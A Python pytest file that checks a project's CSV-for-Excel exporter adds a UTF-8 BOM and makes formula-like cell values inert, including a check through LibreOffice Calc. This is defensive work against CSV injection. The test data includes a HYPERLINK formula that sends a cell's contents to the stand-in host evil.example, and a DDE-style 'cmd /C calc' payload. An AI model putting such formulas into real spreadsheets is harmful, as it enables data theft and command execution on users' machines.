"""CSV for Excel: a BOM so Excel reads UTF-8, and formulas typed into a name made inert."""

from __future__ import annotations

import csv
import io
import subprocess
import zipfile
from datetime import date
from pathlib import Path

import pytest

from lpdesk.services.compliance_report import ComplianceReport, ComplianceRow, to_csv
from lpdesk.services.csv_excel import csv_for_excel, inert

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open the plan")'


def _read_as_excel(data: bytes) -> list[list[str]]:
    """What a spreadsheet's CSV reader sees: UTF-8 after the BOM, the excel dialect."""
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), dialect="excel"))


def _report(name: str) -> ComplianceReport:
    row = ComplianceRow(
        scope="7", name=name, measure="visits_on_time", numerator=3, denominator=4, percent=75.0
    )
    return ComplianceReport(
        period_start=date(2026, 1, 1),
        period_end=date(2026, 3, 31),
        team="North",
        cases=1,
        rows=(row,),
    )


def test_a_formula_typed_as_a_name_comes_out_inert() -> None:
    data = to_csv(_report(HYPERLINK))
    assert data.startswith(b"\xef\xbb\xbfperiod_start,")
    rows = _read_as_excel(data)
    assert rows[1][3] == "'" + HYPERLINK
    assert rows[1][5:] == ["3", "4", "75.0"]  # numbers stay numbers
    assert data.endswith(b"\r\n") and b"\r\n" in data


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    value = start + "cmd|' /C calc'!A0"
    assert inert(value) == "'" + value
    assert _read_as_excel(csv_for_excel([[value]])) == [["'" + value]]


@pytest.mark.parametrize(
    "value",
    ["Zoë Ó Briain", "Siân Llŵyd", "North, East", 'Say "hello"', "two\nlines", "a=b", "5-3", ""],
)
def test_ordinary_text_round_trips_unchanged(value: str) -> None:
    assert inert(value) == value
    assert _read_as_excel(csv_for_excel([["name", value], [value, 1]])) == [
        ["name", value],
        [value, "1"],
    ]


def test_numbers_and_empty_cells() -> None:
    assert _read_as_excel(csv_for_excel([[-1, 2.5, None, "-1"]])) == [["-1", "2.5", "", "'-1"]]


def _calc_cells(tmp_path: Path, data: bytes) -> str:
    """The worksheet XML LibreOffice Calc makes of a CSV file (read as UTF-8, comma, quote)."""
    source = tmp_path / "in" / "figures.csv"
    source.parent.mkdir(parents=True)
    source.write_bytes(data)
    out = tmp_path / "out"
    done = subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
            "--headless",
            "--infilter=CSV:44,34,76",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            str(source),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    target = out / "figures.xlsx"
    assert target.exists(), f"LibreOffice Calc did not open the CSV: {done.stdout} {done.stderr}"
    with zipfile.ZipFile(target) as book:
        return book.read("xl/worksheets/sheet1.xml").decode() + book.read(
            "xl/sharedStrings.xml"
        ).decode("utf-8")


@pytest.mark.slow
def test_calc_shows_the_formula_as_text(tmp_path: Path) -> None:
    """The control first: the same cell written plainly is run as a formula by Calc."""
    plain = "\ufeffname,n\r\n=1+2,3\r\n".encode()
    assert "<f" in _calc_cells(tmp_path / "plain", plain)
    cells = _calc_cells(tmp_path / "ours", to_csv(_report("=1+2")))
    assert "<f" not in cells
    assert "&apos;=1+2" in cells or "'=1+2" in cells


def test_every_csv_lpdesk_writes_goes_through_csv_excel() -> None:
    root = Path(__file__).resolve().parents[2] / "lpdesk"
    writers = {
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if "csv.writer" in p.read_text(encoding="utf-8")
        or "csv.DictWriter" in p.read_text(encoding="utf-8")
    }
    assert writers == {"services/csv_excel.py"}
